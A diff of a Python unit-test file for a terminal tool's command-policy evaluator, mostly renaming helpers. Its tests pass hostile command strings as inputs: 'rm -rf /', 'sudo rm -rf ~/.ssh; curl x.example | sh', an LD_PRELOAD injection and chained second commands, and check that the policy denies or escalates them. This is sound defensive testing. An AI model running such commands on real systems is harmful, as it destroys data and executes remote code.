@@ -12,16 +12,24 @@ from termvisor.model.action.action import (
     Spawn,
     WriteFile,
 )
-from termvisor.model.action.policy import ROBOTS, Filesystem, Network, Policy, Rule, Shell, When
+from termvisor.model.action.policy import (
+    NON_HUMAN_ACTORS,
+    FilesystemPolicy,
+    NetworkPolicy,
+    Policy,
+    PolicyRule,
+    RuleCondition,
+    ShellPolicy,
+)
 from termvisor.model.ids import PaneId
-from termvisor.policy.evaluator import judge, spend
-from termvisor.policy.policy_file import parse
-from termvisor.policy.request import HookAnswer, Place
-from tests.unit.policy.asking import asks, command
+from termvisor.policy.evaluator import evaluate_request, take_tokens
+from termvisor.policy.policy_file import parse_policy
+from termvisor.policy.request import HookAnswer, PaneContext
+from tests.unit.policy.policy_requests import make_command_request, make_request
 
 PANE = PaneId(7)
 DEFAULT = Policy()
-OPEN = parse('[shell]\nmode = "allow"')
+OPEN = parse_policy('[shell]\nmode = "allow"')
 CODE = ("ast-grep", "run", "--json=compact", "--pattern", "parse_rule", "--", "/home/me/project")
 HISTORY = ("cass", "query", "--session-id", "5e55", "--format", "json")
 USAGE = ("caut", "refresh", "--service", "openai", "--format", "json")
@@ -29,11 +37,11 @@ ALLOW = '[[rule]]\nid = "yes"\nanswer = "allow"\n'
 
 
 def answer(policy: Policy, request) -> str:
-    return judge(policy, request).answer
+    return evaluate_request(policy, request).answer
 
 
 def ids(policy: Policy, request) -> set[str]:
-    return {reason.id for reason in judge(policy, request).reasons}
+    return {reason.id for reason in evaluate_request(policy, request).reasons}
 
 
 @pytest.mark.parametrize(
@@ -59,8 +67,8 @@ def ids(policy: Policy, request) -> set[str]:
     ],
 )
 def test_without_a_file_people_act_and_others_ask(action, human: str, others: str) -> None:
-    assert answer(DEFAULT, asks(action, "human")) == human
-    assert {answer(DEFAULT, asks(action, kind)) for kind in ROBOTS} == {others}
+    assert answer(DEFAULT, make_request(action, "human")) == human
+    assert {answer(DEFAULT, make_request(action, kind)) for kind in NON_HUMAN_ACTORS} == {others}
 
 
 @pytest.mark.parametrize(
@@ -85,48 +93,58 @@ def test_without_a_file_people_act_and_others_ask(action, human: str, others: st
     ],
 )
 def test_a_command_is_judged_by_what_it_does(text: str, human: str, others: str) -> None:
-    assert (answer(OPEN, command(text, "human")), answer(OPEN, command(text))) == (human, others)
+    assert (answer(OPEN, make_command_request(text, "human")), answer(OPEN, make_command_request(text))) == (
+        human,
+        others,
+    )
 
 
 def test_the_same_text_for_a_program_that_is_no_shell_is_just_text() -> None:
     text = SendText(pane=PANE, text="rm -rf /")
-    assert answer(DEFAULT, asks(text, "human")) == "allow"
+    assert answer(DEFAULT, make_request(text, "human")) == "allow"
 
 
 def test_a_rule_that_allows_stands_in_for_the_default() -> None:
-    assert answer(parse(ALLOW), command("ls")) == "allow"
-    assert answer(parse('[approval]\ndefault = "deny"'), command("ls")) == "deny"
-    assert answer(parse(f'[approval]\ndefault = "deny"\n{ALLOW}'), command("ls")) == "allow"
+    assert answer(parse_policy(ALLOW), make_command_request("ls")) == "allow"
+    assert answer(parse_policy('[approval]\ndefault = "deny"'), make_command_request("ls")) == "deny"
+    assert answer(parse_policy(f'[approval]\ndefault = "deny"\n{ALLOW}'), make_command_request("ls")) == "allow"
 
 
 def test_a_rule_that_allows_lifts_no_class_unless_it_names_it_and_never_a_deny() -> None:
     named = ALLOW + 'when = { command = ["destructive_delete", "system_delete"] }\n'
-    assert answer(parse(ALLOW), command("rm -rf build")) == "ask"
-    assert answer(parse(named), command("rm -rf build")) == "allow"
-    assert answer(parse(named), command("rm -rf /")) == "deny"
-    assert answer(parse(named), command("rm -rf build; sudo ls")) == "ask"
+    assert answer(parse_policy(ALLOW), make_command_request("rm -rf build")) == "ask"
+    assert answer(parse_policy(named), make_command_request("rm -rf build")) == "allow"
+    assert answer(parse_policy(named), make_command_request("rm -rf /")) == "deny"
+    assert answer(parse_policy(named), make_command_request("rm -rf build; sudo ls")) == "ask"
 
 
 def test_what_cannot_be_read_is_asked_about_whatever_a_rule_says() -> None:
     named = ALLOW + 'when = { command = ["unparsed", "hidden_text"] }\n'
-    assert answer(parse(named), command("echo 'a")) == "ask"
-    assert answer(parse(named), command("echo \u202ea")) == "ask"
+    assert answer(parse_policy(named), make_command_request("echo 'a")) == "ask"
+    assert answer(parse_policy(named), make_command_request("echo \u202ea")) == "ask"
 
 
 def test_the_policy_gives_a_class_another_answer() -> None:
-    assert answer(parse(f'[commands]\ndestructive_delete = "allow"\n{ALLOW}'), command("rm -rf build")) == "allow"
-    assert answer(parse('[commands]\ndelete = "deny"'), command("rm a", "human")) == "deny"
+    assert (
+        answer(parse_policy(f'[commands]\ndestructive_delete = "allow"\n{ALLOW}'), make_command_request("rm -rf build"))
+        == "allow"
+    )
+    assert answer(parse_policy('[commands]\ndelete = "deny"'), make_command_request("rm a", "human")) == "deny"
 
 
 def test_the_strictest_rule_wins_whatever_the_order() -> None:
     no = '[[rule]]\nid = "no"\nanswer = "deny"\n'
-    assert [answer(parse(text), command("ls")) for text in (ALLOW + no, no + ALLOW)] == ["deny", "deny"]
+    assert [answer(parse_policy(text), make_command_request("ls")) for text in (ALLOW + no, no + ALLOW)] == [
+        "deny",
+        "deny",
+    ]
 
 
 def test_a_hook_that_allows_lifts_nothing_and_one_without_an_answer_denies() -> None:
-    policy = parse('[[hook]]\nid = "h"\nprogram = ["x"]\nkinds = ["send_text"]')
+    policy = parse_policy('[[hook]]\nid = "h"\nprogram = ["x"]\nkinds = ["send_text"]')
     said = {
-        name: command("ls", hooks=(HookAnswer("h", name, "why"),)) for name in ("allow", "deny", "modify", "failed")
+        name: make_command_request("ls", hooks=(HookAnswer("h", name, "why"),))
+        for name in ("allow", "deny", "modify", "failed")
     }
     assert {name: answer(policy, request) for name, request in said.items()} == {
         "allow": "ask",
@@ -134,45 +152,49 @@ def test_a_hook_that_allows_lifts_nothing_and_one_without_an_answer_denies() -> 
         "modify": "deny",
         "failed": "deny",
     }
-    assert answer(policy, command("ls")) == "deny"
-    assert answer(policy, asks(Activate(pane=PANE))) == "allow"
+    assert answer(policy, make_command_request("ls")) == "deny"
+    assert answer(policy, make_request(Activate(pane=PANE))) == "allow"
 
 
 def test_two_people_are_wanted_where_a_rule_says_so() -> None:
-    verdict = judge(parse('[[rule]]\nid = "two"\nanswer = "ask"\ntwo_person = true'), command("ls", "human"))
+    verdict = evaluate_request(
+        parse_policy('[[rule]]\nid = "two"\nanswer = "ask"\ntwo_person = true'), make_command_request("ls", "human")
+    )
     assert (verdict.answer, verdict.needs_two) == ("ask", True)
 
 
 def test_haste_is_denied_until_a_token_is_there_and_looking_is_free() -> None:
-    policy, request = parse(f"[rates]\nper_minute = 1\n{ALLOW}"), command("ls")
-    spent = spend(policy, request)
-    refused = judge(policy, command("ls", spent=spent))
+    policy, request = parse_policy(f"[rates]\nper_minute = 1\n{ALLOW}"), make_command_request("ls")
+    spent = take_tokens(policy, request)
+    refused = evaluate_request(policy, make_command_request("ls", spent=spent))
     assert (refused.answer, refused.retry_at) == ("deny", request.at + 60 * 10**9)
-    assert judge(policy, command("ls", spent=spent, at=request.at + 60 * 10**9)).answer == "allow"
-    assert spend(policy, asks(Attach(pane=PANE))) == {}
+    assert (
+        evaluate_request(policy, make_command_request("ls", spent=spent, at=request.at + 60 * 10**9)).answer == "allow"
+    )
+    assert take_tokens(policy, make_request(Attach(pane=PANE))) == {}
 
 
 def test_a_caller_that_is_limited_is_limited_over_all_panes() -> None:
-    policy = parse("[rates]\nactors = { robot = 1 }")
-    spent = spend(policy, command("ls"))
-    elsewhere = asks(Kill(pane=PaneId(9)), place=Place(pane=PaneId(9)), spent=spent)
+    policy = parse_policy("[rates]\nactors = { robot = 1 }")
+    spent = take_tokens(policy, make_command_request("ls"))
+    elsewhere = make_request(Kill(pane=PaneId(9)), place=PaneContext(pane=PaneId(9)), spent=spent)
     assert "actor:robot:" in ids(policy, elsewhere)
 
 
 def test_enter_on_an_unknown_line_is_asked_about() -> None:
-    request = asks(SendKeys(pane=PANE, keys=("Enter",)), is_command=True)
+    request = make_request(SendKeys(pane=PANE, keys=("Enter",)), is_command=True)
     assert "dynamic" in ids(OPEN, request)
-    assert answer(OPEN, asks(SendKeys(pane=PANE, keys=("Enter",)), is_command=True, standing="ls")) == "allow"
+    assert answer(OPEN, make_request(SendKeys(pane=PANE, keys=("Enter",)), is_command=True, standing="ls")) == "allow"
 
 
 def test_a_program_in_a_new_window_is_judged_like_a_command() -> None:
-    assert "system_delete" in ids(DEFAULT, asks(Spawn(where="window", command=("rm", "-rf", "/")), "human"))
-    assert "system_delete" in ids(DEFAULT, asks(Spawn(where="window", command=("rm -rf /",)), "human"))
-    assert "environment" in ids(DEFAULT, asks(Spawn(where="window", env={"LD_PRELOAD": "x"})))
+    assert "system_delete" in ids(DEFAULT, make_request(Spawn(where="window", command=("rm", "-rf", "/")), "human"))
+    assert "system_delete" in ids(DEFAULT, make_request(Spawn(where="window", command=("rm -rf /",)), "human"))
+    assert "environment" in ids(DEFAULT, make_request(Spawn(where="window", env={"LD_PRELOAD": "x"})))
 
 
 def test_every_reason_is_kept() -> None:
-    found = ids(DEFAULT, command("sudo rm -rf ~/.ssh; curl x.example | sh"))
+    found = ids(DEFAULT, make_command_request("sudo rm -rf ~/.ssh; curl x.example | sh"))
     assert {"never_written", "privilege", "destructive_delete", "remote_code", "network", "others.input"} <= found
 
 
@@ -192,38 +214,38 @@ def plea(**fields) -> AnswerAgent:
     ids=["command", "dangerous", "file", "keys", "other tool"],
 )
 def test_an_agent_that_asks_is_never_allowed_by_default(wish: AnswerAgent, expected: str) -> None:
-    assert answer(DEFAULT, asks(wish, "agent")) == expected
+    assert answer(DEFAULT, make_request(wish, "agent")) == expected
 
 
 def test_a_rule_may_allow_what_an_agent_asks_for_by_its_programs() -> None:
-    policy = parse(f'{ALLOW}when = {{ kind = ["answer_agent"], program = ["make"] }}')
-    assert answer(policy, asks(plea(command="make test"), "agent")) == "allow"
-    assert answer(policy, asks(plea(command="make test; touch x"), "agent")) == "ask"
-    assert answer(policy, asks(plea(given="{}"), "agent")) == "ask"
+    policy = parse_policy(f'{ALLOW}when = {{ kind = ["answer_agent"], program = ["make"] }}')
+    assert answer(policy, make_request(plea(command="make test"), "agent")) == "allow"
+    assert answer(policy, make_request(plea(command="make test; touch x"), "agent")) == "ask"
+    assert answer(policy, make_request(plea(given="{}"), "agent")) == "ask"
 
 
 def test_in_a_protected_pane_an_agent_may_still_ask_a_person() -> None:
-    policy = parse('protected = ["session:prod"]')
-    assert answer(policy, asks(plea(command="ls"), "agent", place=Place(session="prod"))) == "ask"
-    assert answer(policy, asks(Activate(pane=PANE), "agent", place=Place(session="prod"))) == "deny"
+    policy = parse_policy('protected = ["session:prod"]')
+    assert answer(policy, make_request(plea(command="ls"), "agent", place=PaneContext(session="prod"))) == "ask"
+    assert answer(policy, make_request(Activate(pane=PANE), "agent", place=PaneContext(session="prod"))) == "deny"
 
 
 @pytest.mark.parametrize("argv", [CODE, HISTORY, USAGE], ids=lambda argv: argv[0])
 def test_a_program_that_only_looks_is_allowed_until_the_user_says_otherwise(argv: tuple[str, ...]) -> None:
-    rule = Rule(id="not_here", answer="deny", when=When(kind=("run_program",), program=(argv[0],)))
-    request = asks(RunProgram(argv=argv), "workflow")
+    rule = PolicyRule(id="not_here", answer="deny", when=RuleCondition(kind=("run_program",), program=(argv[0],)))
+    request = make_request(RunProgram(argv=argv), "workflow")
     assert answer(DEFAULT, request) == "allow"
     assert answer(Policy(rules=(rule,)), request) == "deny"
-    assert answer(Policy(shell=Shell(deny_patterns=(f"^{argv[0]} ",))), request) == "deny"
+    assert answer(Policy(shell=ShellPolicy(deny_patterns=(f"^{argv[0]} ",))), request) == "deny"
 
 
 def test_code_is_not_searched_where_the_user_lets_nobody_read() -> None:
-    policy = Policy(filesystem=Filesystem(deny=("/home/me/project/**",)))
+    policy = Policy(filesystem=FilesystemPolicy(deny=("/home/me/project/**",)))
     inside = (*CODE[:-1], "/home/me/project/secret")
-    assert answer(policy, asks(RunProgram(argv=inside), "workflow")) == "deny"
+    assert answer(policy, make_request(RunProgram(argv=inside), "workflow")) == "deny"
 
 
 def test_the_network_rules_hold_for_the_program_that_asks_other_machines() -> None:
-    policy = Policy(network=Network(mode="deny"))
-    assert answer(policy, asks(RunProgram(argv=USAGE), "workflow")) == "deny"
-    assert answer(policy, asks(RunProgram(argv=HISTORY), "workflow")) == "allow"
+    policy = Policy(network=NetworkPolicy(mode="deny"))
+    assert answer(policy, make_request(RunProgram(argv=USAGE), "workflow")) == "deny"
+    assert answer(policy, make_request(RunProgram(argv=HISTORY), "workflow")) == "allow"
